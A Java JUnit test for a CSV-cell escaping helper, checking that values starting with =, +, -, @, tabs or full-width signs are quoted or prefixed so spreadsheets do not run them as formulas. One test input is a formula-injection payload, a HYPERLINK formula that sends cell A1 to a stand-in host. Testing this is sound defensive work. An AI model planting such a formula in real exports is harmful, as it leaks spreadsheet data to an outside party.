package org.probity.ground;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class CsvTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          hold                                  | hold
          buy, then hold                        | "buy, then hold"
          say "go" now                          | "say ""go"" now"
          =HYPERLINK("http://x/?"&A1),x         | "'=HYPERLINK(""http://x/?""&A1),x"
          -2+3,"q                               | "'-2+3,""q"
          @SUM(A1)                              | '@SUM(A1)
          +1                                    | '+1
          `  =1`                                | `'  =1`
          ＝1+1                                 | '＝1+1
          －1                                   | '－1
          a=b                                   | a=b
          """)
  void textIsACellAndNoFormula(String text, String cell) {
    assertThat(Csv.text(text)).isEqualTo(cell);
  }

  @Test
  void lineBreaksAndTabsBeginNothing() {
    assertThat(Csv.text("\t=1")).isEqualTo("\\t=1");
    assertThat(Csv.text("a\r\n=1,2")).isEqualTo("\"a\\r\\n=1,2\"");
  }
}
